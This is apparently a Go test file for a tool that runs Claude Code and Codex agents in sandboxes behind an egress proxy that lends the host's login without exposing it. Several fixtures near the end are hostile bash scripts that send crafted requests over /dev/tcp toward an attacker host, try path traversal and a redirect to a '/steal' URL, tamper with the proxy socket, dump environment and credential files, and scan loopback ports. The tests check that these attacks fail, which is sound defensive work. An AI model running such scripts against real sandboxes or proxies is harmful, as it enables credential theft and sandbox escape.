// Package login_test checks that a user logged in on the host runs the
// real Claude Code and Codex clients in loops, on docker and bwrap,
// without the sandbox ever holding the login: a fake host login
// (credential files only), a stand-in for the model API on the host's
// loopback (the host's ANTHROPIC_BASE_URL / OPENAI_BASE_URL, which the
// egress proxy honours as its upstream), and assertions on what reached
// the stand-in and on everything the sandbox could read.
package login_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/gitloop-dev/git-loop/cmd/cmdtest"
	"github.com/gitloop-dev/git-loop/gitloop/egress"
	"github.com/gitloop-dev/git-loop/gitloop/gittest"
	"github.com/gitloop-dev/git-loop/internal/testagents"
	"github.com/gitloop-dev/git-loop/sandbox/docker/dockertest"
)

func TestMain(m *testing.M) { cmdtest.Main(m, nil) }

const (
	claudeAccess  = "sk-ant-oat01-FAKE-HOST-ACCESS-3f9a"
	claudeRefresh = "sk-ant-ort01-FAKE-HOST-REFRESH-77c1"
	codexKey      = "sk-proj-FAKE-HOST-CODEX-KEY-5b20"
	standInReply  = "hello from the stand-in"
	placeholder   = "git-loop-egress-placeholder"
)

// standIn is the model API: it records each request's credential and the
// environment of the agent processes alive while it answers (read from
// the host's /proc: the sandbox's processes are the host's too), and
// answers Claude's Messages API with one streamed text block.
type standIn struct {
	*httptest.Server
	mu    sync.Mutex
	auth  []string
	paths []string
	envs  []string // environ of the loop's processes, during a request
	loop  string
	// accounts are the ChatGPT-Account-Id of each request.
	accounts []string
}

func newStandIn(t *testing.T, loop string) *standIn {
	s := &standIn{loop: loop}
	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
	t.Cleanup(s.Close)
	return s
}

func (s *standIn) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	s.auth = append(s.auth, r.Header.Get("Authorization")+"|"+r.Header.Get("X-Api-Key"))
	s.paths = append(s.paths, r.Method+" "+r.URL.Path)
	s.accounts = append(s.accounts, r.Header.Get("ChatGPT-Account-Id"))
	s.envs = append(s.envs, loopEnvirons(s.loop)...)
	s.mu.Unlock()
	switch {
	case r.URL.Path == "/v1/messages" && strings.Contains(string(body), `"stream":true`):
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, claudeStream)
	case r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/responses"):
		// Codex tries a WebSocket first; refused, it falls back to
		// POSTing the request, which then reaches here too.
		w.WriteHeader(http.StatusUpgradeRequired)
	case r.URL.Path == "/v1/messages":
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id":"msg_1","type":"message","role":"assistant","model":"claude-standin","content":[{"type":"text","text":"`+standInReply+`"}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`)
	default:
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":{"message":"the stand-in answers no more","type":"invalid_request_error"}}`)
	}
}

const claudeStream = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_1\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-standin\",\"content\":[],\"stop_reason\":null,\"stop_sequence\":null,\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}}\n\n" +
	"event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n" +
	"event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"" + standInReply + "\"}}\n\n" +
	"event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n" +
	"event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\",\"stop_sequence\":null},\"usage\":{\"output_tokens\":5}}\n\n" +
	"event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n"

// loopEnvirons are the environments of the processes running in loop's
// sandbox (their env says GIT_LOOP_NAME=loop).
func loopEnvirons(loop string) []string {
	var out []string
	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		env := strings.ReplaceAll(string(b), "\x00", "\n")
		if strings.Contains("\n"+env, "\nGIT_LOOP_NAME="+loop+"\n") {
			cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
			out = append(out, "cmdline: "+strings.ReplaceAll(string(cmd), "\x00", " ")+"\n"+env)
		}
	}
	return out
}

func (s *standIn) seen() (auth, paths, envs []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.auth...), append([]string(nil), s.paths...), append([]string(nil), s.envs...)
}

// fakeHome writes a fake login into a fresh $HOME for the host.
func fakeHome(t *testing.T) string {
	home := t.TempDir()
	write := func(rel, body string) {
		p := filepath.Join(home, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(".claude/.credentials.json", `{"claudeAiOauth":{"accessToken":"`+claudeAccess+`","refreshToken":"`+claudeRefresh+`","expiresAt":4102444800000,"scopes":["user:inference","user:profile"],"subscriptionType":"max"}}`)
	write(".codex/auth.json", `{"OPENAI_API_KEY":"`+codexKey+`"}`)
	// git's identity, as the hermetic home had it.
	if b, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".gitconfig")); err == nil {
		write(".gitconfig", string(b))
	}
	return home
}

// noSecret fails when any of the fake login's values is in s.
func noSecret(t *testing.T, where, s string) {
	t.Helper()
	for _, v := range []string{claudeAccess, claudeRefresh, codexKey} {
		if strings.Contains(s, v) {
			t.Errorf("%s holds the host's credential %.16s…", where, v)
		}
	}
}

// noSecretUnder scans every regular file under dir.
func noSecretUnder(t *testing.T, dir string) {
	t.Helper()
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		if b, err := os.ReadFile(p); err == nil {
			noSecret(t, p, string(b))
		}
		return nil
	})
}

func TestHostLoginInLoops(t *testing.T) {
	claude := testagents.Claude(t)
	codex := codexNative(t, testagents.Codex(t))
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			repo := gittest.Repo(t)
			d.Prepare(t, repo)
			cmdtest.CleanUp(t, repo, nil)
			t.Setenv("HOME", fakeHome(t))

			t.Run("claude", func(t *testing.T) {
				up := newStandIn(t, "c")
				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
				gittest.Git(t, repo, "config", "loop.agent", claude)
				cmdtest.MustRun(t, repo, "new", "c", "--driver", d.Name, "--detach")
				r := cmdtest.Run(t, repo, "run", "c", "say hello")
				auth, paths, envs := up.seen()
				t.Logf("claude in %s: exit %d, requests %v\n%s", d.Name, r.Code, paths, r.Stderr)
				if !strings.Contains(r.Stdout, standInReply) {
					t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
				}
				if len(auth) == 0 {
					t.Fatal("no request reached the stand-in")
				}
				for _, a := range auth {
					if a != "Bearer "+claudeAccess+"|" {
						t.Errorf("the stand-in got credentials %q, want the host's OAuth token", a)
					}
				}
				checkSandbox(t, d, repo, "c", r.Stdout+r.Stderr, envs)
			})

			// With no network at all, the model API through the proxy
			// is still there: the agent's only way out.
			t.Run("claude with sandbox.network none", func(t *testing.T) {
				up := newStandIn(t, "n")
				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
				gittest.Git(t, repo, "config", "loop.agent", claude)
				gittest.Git(t, repo, "config", "loop.sandbox.network", "none")
				defer gittest.Git(t, repo, "config", "--unset", "loop.sandbox.network")
				cmdtest.MustRun(t, repo, "new", "n", "--driver", d.Name, "--detach")
				r := cmdtest.Run(t, repo, "run", "n", "say hello")
				if !strings.Contains(r.Stdout, standInReply) {
					t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
				}
				_, _, envs := up.seen()
				checkSandbox(t, d, repo, "n", r.Stdout+r.Stderr, envs)
			})

			t.Run("codex", func(t *testing.T) {
				up := newStandIn(t, "x")
				t.Setenv("OPENAI_BASE_URL", up.URL+"/v1")
				gittest.Git(t, repo, "config", "loop.agent", codex)
				cmdtest.MustRun(t, repo, "new", "x", "--driver", d.Name, "--detach")
				r := cmdtest.Run(t, repo, "run", "x", "say hello")
				auth, paths, envs := up.seen()
				t.Logf("codex in %s: exit %d, requests %v", d.Name, r.Code, paths)
				if len(auth) == 0 {
					t.Fatalf("no request reached the stand-in: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
				}
				for _, a := range auth {
					if a != "Bearer "+codexKey+"|" {
						t.Errorf("the stand-in got credentials %q, want the host's API key", a)
					}
				}
				checkSandbox(t, d, repo, "x", r.Stdout+r.Stderr, envs)
			})
		})
	}
}

// TestHostLoginByHand: a client a user runs by hand in "git loop exec"
// (and so "shell") is logged in as in a session, through the same proxy,
// and the sandbox never holds the login. Two at once in one sandbox (a
// docker container is one network) each get their own relay.
func TestHostLoginByHand(t *testing.T) {
	claude := testagents.Claude(t)
	codex := codexNative(t, testagents.Codex(t))
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			repo := gittest.Repo(t)
			d.Prepare(t, repo)
			cmdtest.CleanUp(t, repo, nil)
			t.Setenv("HOME", fakeHome(t))

			t.Run("claude", func(t *testing.T) {
				up := newStandIn(t, "hc")
				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
				cmdtest.MustRun(t, repo, "new", "hc", "--agent", claude, "--driver", d.Name, "--detach")
				// Two clients at once in the one sandbox.
				r := cmdtest.Run(t, repo, "exec", "hc", "--", "sh", "-c", `claude -p "say hello" > /tmp/one 2>&1 & claude -p "say hello"; wait; cat /tmp/one`)
				auth, paths, envs := up.seen()
				t.Logf("claude by hand in %s: exit %d, requests %v\n%s", d.Name, r.Code, paths, r.Stderr)
				if strings.Count(r.Stdout, standInReply) != 2 {
					t.Errorf("claude by hand did not get the stand-in's answer twice: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
				}
				if len(auth) == 0 {
					t.Fatal("no request reached the stand-in")
				}
				for _, a := range auth {
					if a != "Bearer "+claudeAccess+"|" {
						t.Errorf("the stand-in got credentials %q, want the host's OAuth token", a)
					}
				}
				checkSandbox(t, d, repo, "hc", r.Stdout+r.Stderr, envs)
				// The exec's proxy is gone with the exec.
				if socks, _ := filepath.Glob(filepath.Join(repo, ".git", "loop", "host", "hc", "egress", "*.sock")); len(socks) != 0 {
					t.Errorf("sockets left after the exec: %v", socks)
				}
			})

			t.Run("codex", func(t *testing.T) {
				up := newStandIn(t, "hx")
				t.Setenv("OPENAI_BASE_URL", up.URL+"/v1")
				cmdtest.MustRun(t, repo, "new", "hx", "--agent", codex, "--driver", d.Name, "--detach")
				r := cmdtest.Run(t, repo, "exec", "hx", "--", "codex", "exec", "--skip-git-repo-check", "say hello")
				auth, paths, envs := up.seen()
				t.Logf("codex by hand in %s: exit %d, requests %v", d.Name, r.Code, paths)
				if len(auth) == 0 {
					t.Fatalf("no request reached the stand-in: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
				}
				for _, a := range auth {
					if a != "Bearer "+codexKey+"|" {
						t.Errorf("the stand-in got credentials %q, want the host's API key", a)
					}
				}
				checkSandbox(t, d, repo, "hx", r.Stdout+r.Stderr, envs)
			})
		})
	}
}

// TestCodexChatGPTLogin: a host logged in to Codex with ChatGPT (auth.json
// with tokens, no API key). The loops' real Codex speaks the API-key
// dialect to the proxy, which sends its requests to the host client's
// ChatGPT backend (chatgpt_base_url of the host's config.toml, here the
// stand-in) at /backend-api/codex/responses, with the host's access
// token as bearer and its account id, and to nothing else (no account,
// plugin or workspace endpoint). No loop can refresh: a refresh the host
// makes reaches every loop at its next request, and no run changes the
// host's auth.json (one loop's run never logs the others out).
func TestCodexChatGPTLogin(t *testing.T) {
	codex := codexNative(t, testagents.Codex(t))
	const (
		access1 = "eyJhbGciOiJSUzI1NiJ9.FAKE-CHATGPT-ACCESS-ONE.c2ln"
		access2 = "eyJhbGciOiJSUzI1NiJ9.FAKE-CHATGPT-ACCESS-TWO.c2ln"
		refresh = "rt-FAKE-CHATGPT-REFRESH-9e1d"
		account = "acct-FAKE-4471"
	)
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			repo := gittest.Repo(t)
			d.Prepare(t, repo)
			cmdtest.CleanUp(t, repo, nil)
			home := fakeHome(t)
			t.Setenv("HOME", home)
			up := newStandIn(t, "g1")
			auth := filepath.Join(home, ".codex", "auth.json")
			login := func(access string) string {
				body := `{"OPENAI_API_KEY":null,"tokens":{"id_token":"eyJhbGciOiJSUzI1NiJ9.e30.c2ln","access_token":"` + access + `","refresh_token":"` + refresh + `","account_id":"` + account + `"},"last_refresh":"2026-12-07T20:00:00Z"}`
				if err := os.WriteFile(auth, []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
				return body
			}
			want := login(access1)
			if err := os.WriteFile(filepath.Join(home, ".codex", "config.toml"), []byte("chatgpt_base_url = \""+up.URL+"/backend-api/\"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			check := func(what, access string, from int) {
				t.Helper()
				up.mu.Lock()
				paths, auths, accounts := up.paths[from:], up.auth[from:], up.accounts[from:]
				up.mu.Unlock()
				t.Logf("%s: requests %v", what, paths)
				if len(paths) == 0 {
					t.Fatalf("%s: no request reached the stand-in", what)
				}
				if !slices.Contains(paths, "POST /backend-api/codex/responses") {
					t.Errorf("%s: no POST of a turn reached the Codex backend", what)
				}
				for i, p := range paths {
					if !strings.HasSuffix(p, " /backend-api/codex/responses") {
						t.Errorf("%s: a request went to %s, not the Codex backend", what, p)
					}
					if auths[i] != "Bearer "+access+"|" || accounts[i] != account {
						t.Errorf("%s: credentials %q, account %q; want the host's access token and account", what, auths[i], accounts[i])
					}
				}
				if b, _ := os.ReadFile(auth); string(b) != want {
					t.Errorf("%s: the host's auth.json changed:\n%s", what, b)
				}
			}
			for _, name := range []string{"g1", "g2"} {
				cmdtest.MustRun(t, repo, "new", name, "--agent", codex, "--driver", d.Name, "--detach")
			}
			r := cmdtest.Run(t, repo, "run", "g1", "say hello")
			check("run g1", access1, 0)
			// The host's client refreshes: every loop uses the new token.
			n := len(up.paths)
			want = login(access2)
			r2 := cmdtest.Run(t, repo, "run", "g2", "say hello")
			check("run g2 after the host's refresh", access2, n)
			n = len(up.paths)
			r3 := cmdtest.Run(t, repo, "exec", "g1", "--", "codex", "exec", "--skip-git-repo-check", "say hello")
			check("codex by hand in g1", access2, n)
			for _, out := range []string{r.Stdout + r.Stderr, r2.Stdout + r2.Stderr, r3.Stdout + r3.Stderr} {
				for _, v := range []string{access1, access2, refresh} {
					if strings.Contains(out, v) {
						t.Errorf("output holds the host's token %.20s…", v)
					}
				}
			}
			for _, name := range []string{"g1", "g2"} {
				for _, dir := range []string{filepath.Join(repo, ".git", "loop", "loops", name), filepath.Join(repo, ".git", "loop", "host", name)} {
					filepath.WalkDir(dir, func(p string, de os.DirEntry, err error) error {
						if err == nil && de.Type().IsRegular() {
							b, _ := os.ReadFile(p)
							for _, v := range []string{access1, access2, refresh} {
								if strings.Contains(string(b), v) {
									t.Errorf("%s holds the host's token %.20s…", p, v)
								}
							}
						}
						return nil
					})
				}
			}
		})
	}
}

// checkSandbox: the agent ran with the placeholder and never the
// credential, in its environment, its files, its log, the container's
// stored configuration; and a command in the sandbox finds it nowhere.
func checkSandbox(t *testing.T, d cmdtest.Driver, repo, loop, output string, envs []string) {
	t.Helper()
	noSecret(t, "the run's output", output)
	if len(envs) == 0 {
		t.Error("no process of the loop was seen during a request")
	}
	sawPlaceholder := false
	for _, e := range envs {
		noSecret(t, "an agent process's environment", e)
		sawPlaceholder = sawPlaceholder || strings.Contains(e, placeholder)
	}
	if !sawPlaceholder {
		t.Errorf("no agent process held the placeholder:\n%s", strings.Join(envs, "\n---\n"))
	}
	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "loops", loop))
	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "host", loop))
	egressDir := "/run/git-loop/egress"
	r := cmdtest.Run(t, repo, "exec", loop, "--", "sh", "-c", `env; cat ~/.claude/.credentials.json ~/.codex/auth.json 2>&1; ls -la "$1" 2>&1`, "sh", egressDir)
	noSecret(t, "git loop exec", r.Stdout+r.Stderr)
	if d.Name == "docker" {
		ws, _ := os.ReadFile(filepath.Join(repo, ".git", "loop", "id"))
		api := dockertest.NewAPI(t)
		defer api.Close()
		c, ok := api.Inspect(t, "gitloop-"+strings.TrimSpace(string(ws))+"-"+loop)
		if !ok {
			t.Fatal("no container")
		}
		noSecret(t, "docker inspect", c.Raw)
	}
}

// codexNative is the platform binary the npm launcher runs: a static
// binary, so it runs in the Debian test image, which has no node.
func codexNative(t *testing.T, launcher string) string {
	t.Helper()
	real, err := filepath.EvalSymlinks(launcher)
	if err != nil {
		t.Fatal(err)
	}
	matches, _ := filepath.Glob(filepath.Join(filepath.Dir(real), "..", "..", "codex-linux-x64", "vendor", "*", "bin", "codex"))
	if len(matches) == 0 {
		matches, _ = filepath.Glob(filepath.Join(filepath.Dir(real), "..", "node_modules", "@openai", "codex-linux-x64", "vendor", "*", "bin", "codex"))
	}
	if len(matches) == 0 {
		t.Fatalf("no codex platform binary beside %s", real)
	}
	return filepath.Clean(matches[0])
}

// TestHostLoginNoneDriver: on the none driver the agent runs on the host
// with the loop's own config dir; it reaches the API through the proxy on
// the host's loopback, with a token of its session.
func TestHostLoginNoneDriver(t *testing.T) {
	claude := testagents.Claude(t)
	repo := gittest.Repo(t)
	cmdtest.CleanUp(t, repo, nil)
	t.Setenv("HOME", fakeHome(t))
	up := newStandIn(t, "o")
	t.Setenv("ANTHROPIC_BASE_URL", up.URL)
	gittest.Git(t, repo, "config", "loop.agent", claude)
	cmdtest.MustRun(t, repo, "new", "o", "--driver", "none", "--detach")
	r := cmdtest.Run(t, repo, "run", "o", "say hello")
	if !strings.Contains(r.Stdout, standInReply) {
		t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
	}
	auth, _, _ := up.seen()
	if len(auth) == 0 || auth[len(auth)-1] != "Bearer "+claudeAccess+"|" {
		t.Errorf("the stand-in got %q", auth)
	}
	noSecret(t, "the run's output", r.Stdout+r.Stderr)
	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "loops", "o"))
}

// TestDoctorLogin: doctor says whether the agent is logged in on the
// host and whether the proxy that lends the login serves.
func TestDoctorLogin(t *testing.T) {
	claude := testagents.Claude(t)
	repo := gittest.Repo(t)
	gittest.Git(t, repo, "config", "loop.agent", claude)
	t.Setenv("HOME", t.TempDir())
	r := cmdtest.Run(t, repo, "doctor")
	if !strings.Contains(r.Stdout+r.Stderr, "not logged in on the host") {
		t.Errorf("doctor without a login:\n%s%s", r.Stdout, r.Stderr)
	}
	t.Setenv("HOME", fakeHome(t))
	r = cmdtest.Run(t, repo, "doctor")
	out := r.Stdout + r.Stderr
	if !strings.Contains(out, "claude logged in on the host") || !strings.Contains(out, ".credentials.json (OAuth)") {
		t.Errorf("doctor with a login:\n%s", out)
	}
	noSecret(t, "doctor", out)
}

// hostileAgent is an "agent" named claude (so git loop lends it the
// host's login) that attacks the egress proxy from inside the sandbox
// and prints everything it could see: its env, its files, the proxy's
// answers. ATTACKER is replaced with the attacker's host:port.
const hostileAgent = `#!/bin/bash
port=${ANTHROPIC_BASE_URL##*:}
req() {
  exec 3<>/dev/tcp/127.0.0.1/$port || { echo "connect failed"; return; }
  printf '%s\r\nHost: %s\r\nAuthorization: Bearer stolen?\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' "$1" "$2" >&3
  echo "== $1 (Host $2)"; head -c 4000 <&3 | tr -d '\r'; echo
  exec 3<&-
}
req "POST http://$ATTACKER/v1/messages HTTP/1.1" "$ATTACKER"
req "CONNECT $ATTACKER HTTP/1.1" "$ATTACKER"
req "POST /v1/messages HTTP/1.1" "$ATTACKER"
req "POST /api/oauth/claude_cli/create_api_key HTTP/1.1" 127.0.0.1
req "POST /v1/messages/../../api/oauth/profile HTTP/1.1" 127.0.0.1
req "POST /v1/messages/%2e%2e/%2e%2e/api/oauth/profile HTTP/1.1" 127.0.0.1
req "POST /v1/messages/redirect HTTP/1.1" 127.0.0.1
egress=/run/git-loop/egress
echo "== egress dir $egress"; ls -la "$egress"
rm -f "$egress/proxy.sock" 2>/dev/null && [ ! -e "$egress/proxy.sock" ] && echo "REMOVED the proxy's socket"
touch "$egress/planted" 2>/dev/null && echo "PLANTED a file beside the socket"
echo "== env"; env
echo "== files"; for f in $(find "$HOME" "$GIT_LOOP_AGENT_DIR" -type f 2>/dev/null); do echo "-- $f"; head -c 20000 "$f"; echo; done
echo "== processes"; for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; tr '\0' '\n' < $p/environ 2>/dev/null; done
echo hostile-agent-done
`

// TestHostileAgentAndProxy: an agent holding the proxy cannot make it
// reach anything but the model API, cannot make it carry the credential
// elsewhere, and finds the credential nowhere it can read.
func TestHostileAgentAndProxy(t *testing.T) {
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			repo := gittest.Repo(t)
			d.Prepare(t, repo)
			cmdtest.CleanUp(t, repo, nil)
			t.Setenv("HOME", fakeHome(t))
			attacker := newStandIn(t, "nobody")
			up := newStandIn(t, "h")
			up.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/v1/messages/redirect" {
					up.mu.Lock()
					up.auth = append(up.auth, r.Header.Get("Authorization")+"|"+r.Header.Get("X-Api-Key"))
					up.paths = append(up.paths, r.Method+" "+r.URL.Path)
					up.mu.Unlock()
					http.Redirect(w, r, attacker.URL+"/steal", http.StatusTemporaryRedirect)
					return
				}
				up.serve(w, r)
			})
			t.Setenv("ANTHROPIC_BASE_URL", up.URL)
			bin := filepath.Join(t.TempDir(), "claude")
			script := strings.ReplaceAll(hostileAgent, "$ATTACKER", strings.TrimPrefix(attacker.URL, "http://"))
			if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
				t.Fatal(err)
			}
			gittest.Git(t, repo, "config", "loop.agent", bin)
			cmdtest.MustRun(t, repo, "new", "h", "--driver", d.Name, "--detach")
			r := cmdtest.RunWith(t, repo, cmdtest.Options{Env: map[string]string{}}, "run", "h", "go")
			out := r.Stdout + r.Stderr
			i := strings.Index(out, "== env")
			t.Logf("the hostile agent in %s:\n%s", d.Name, out[:max(i, 0)])
			if !strings.Contains(out, "hostile-agent-done") {
				t.Fatalf("the hostile agent did not finish: exit %d\n%s", r.Code, out)
			}
			noSecret(t, "what the hostile agent saw", out)
			for _, bad := range []string{"REMOVED the proxy's socket", "PLANTED a file"} {
				if strings.Contains(out, bad) {
					t.Errorf("the agent %s", bad)
				}
			}
			if n := strings.Count(out, "HTTP/1.1 403"); n < 4 {
				t.Errorf("%d requests refused, want the absolute URL, the other paths and both dot-segment forms:\n%s", n, out)
			}
			if _, paths, _ := attacker.seen(); len(paths) != 0 {
				t.Errorf("the attacker's server got %v", paths)
			}
			auth, paths, _ := up.seen()
			for _, p := range paths {
				if p != "POST /v1/messages" && p != "POST /v1/messages/redirect" {
					t.Errorf("the API got %s", p)
				}
			}
			for _, a := range auth {
				if a != "Bearer "+claudeAccess+"|" {
					t.Errorf("the API got credentials %q", a)
				}
			}
			if len(paths) != 2 {
				t.Errorf("the API got %v, want the Host-header request and the redirect", paths)
			}
		})
	}
}

// neighbour is what another loop on the host's network runs: it knocks
// on the relay's fixed port of the host's loopback until the loop next
// door has its agent session up, and asks for the model API there with no
// credential of its own.
const neighbour = `for i in $(seq 100); do
  if exec 3<>/dev/tcp/127.0.0.1/$1; then
    printf 'POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' >&3
    echo "== the relay next door answered:"; head -c 2000 <&3 | tr -d '\r'; exit 0
  fi 2>/dev/null
  sleep 0.1
done
echo "no relay to reach"`

// TestHostNetworkRelay: with sandbox.network = host, a loop's relay
// listens on the host's loopback, where every local process reaches it:
// another loop (or another user of the machine) must not get the host's
// login on its requests through it.
func TestHostNetworkRelay(t *testing.T) {
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			// The loop's agent: a session that lasts a few seconds and
			// makes no request of its own.
			repo, up := hostNetworkPair(t, d, "#!/bin/sh\nsleep 6\necho agent-done\n")
			done := make(chan cmdtest.Result, 1)
			go func() { done <- cmdtest.Run(t, repo, "run", "a", "go") }()
			r := cmdtest.Run(t, repo, "exec", "b", "--", "bash", "-c", neighbour, "sh", strconv.Itoa(egress.Port))
			t.Logf("loop b in %s: exit %d\n%s%s", d.Name, r.Code, r.Stdout, r.Stderr)
			ra := <-done
			if !strings.Contains(ra.Stdout, "agent-done") {
				t.Errorf("loop a's agent did not run: exit %d\n%s%s", ra.Code, ra.Stdout, ra.Stderr)
			}
			if !strings.Contains(r.Stdout, "the relay next door answered") {
				t.Fatalf("loop b never reached loop a's relay (the attack did not run)")
			}
			noSecret(t, "loop b's output", r.Stdout+r.Stderr)
			if auth, paths, _ := up.seen(); len(paths) != 0 {
				t.Errorf("loop b's request reached the model API through loop a's relay: %v with credentials %v", paths, auth)
			}
		})
	}
}

// scanner is a neighbour that does not know the port: it tries every
// listening socket on the host's loopback it can see (with the host's
// network, /proc/net/tcp is the host's), as a model API request. A
// socket that closes at once must not end the scan (SIGPIPE).
const scanner = `trap '' PIPE
sleep 2
for p in $(awk '$4 == "0A" && $2 ~ /^0100007F:/ { split($2, a, ":"); print a[2] }' /proc/net/tcp); do
  port=$((16#$p))
  if exec 3<>/dev/tcp/127.0.0.1/$port; then
    printf 'POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' >&3
    timeout 3 head -c 300 <&3 >/dev/null; exec 3<&-
    echo "tried $port"
  fi 2>/dev/null
done`

// TestHostNetworkRelayByHand: with sandbox.network = host, a client run by
// hand in "git loop exec" gets a relay on a free port of the host's
// loopback; another loop scanning the host's listening sockets must not
// get the host's login on its requests through it.
func TestHostNetworkRelayByHand(t *testing.T) {
	for _, d := range cmdtest.Drivers {
		t.Run(d.Name, func(t *testing.T) {
			// The client run by hand in loop a: it lasts a few seconds
			// and makes no request of its own.
			repo, up := hostNetworkPair(t, d, "#!/bin/sh\nsleep 8\necho by-hand-done\n")
			done := make(chan cmdtest.Result, 1)
			go func() { done <- cmdtest.Run(t, repo, "exec", "a", "--", "claude") }()
			r := cmdtest.Run(t, repo, "exec", "b", "--", "bash", "-c", scanner)
			t.Logf("loop b in %s: exit %d\n%s%s", d.Name, r.Code, r.Stdout, r.Stderr)
			ra := <-done
			if !strings.Contains(ra.Stdout, "by-hand-done") {
				t.Errorf("the client by hand in loop a did not run: exit %d\n%s%s", ra.Code, ra.Stdout, ra.Stderr)
			}
			if !strings.Contains(r.Stdout, "tried") {
				t.Fatalf("loop b reached no socket on the host's loopback (the attack did not run)")
			}
			noSecret(t, "loop b's output", r.Stdout+r.Stderr)
			auth, _, _ := up.seen()
			for _, a := range auth {
				if strings.Contains(a, claudeAccess) {
					t.Errorf("loop b's request reached the model API with the host's login through loop a's relay: %q", a)
				}
			}
		})
	}
}

// hostNetworkPair makes loops a and b on driver d with sandbox.network =
// host, the host logged in to Claude with a stand-in model API, and the
// loops' agent a "claude" script of the given text; it returns the
// repository and the stand-in.
func hostNetworkPair(t *testing.T, d cmdtest.Driver, agentScript string) (string, *standIn) {
	t.Helper()
	repo := gittest.Repo(t)
	d.Prepare(t, repo)
	cmdtest.CleanUp(t, repo, nil)
	t.Setenv("HOME", fakeHome(t))
	up := newStandIn(t, "a")
	t.Setenv("ANTHROPIC_BASE_URL", up.URL)
	gittest.Git(t, repo, "config", "loop.sandbox.network", "host")
	bin := filepath.Join(t.TempDir(), "claude")
	if err := os.WriteFile(bin, []byte(agentScript), 0o755); err != nil {
		t.Fatal(err)
	}
	gittest.Git(t, repo, "config", "loop.agent", bin)
	cmdtest.MustRun(t, repo, "new", "a", "--driver", d.Name, "--detach")
	cmdtest.MustRun(t, repo, "new", "b", "--driver", d.Name, "--detach")
	return repo, up
}
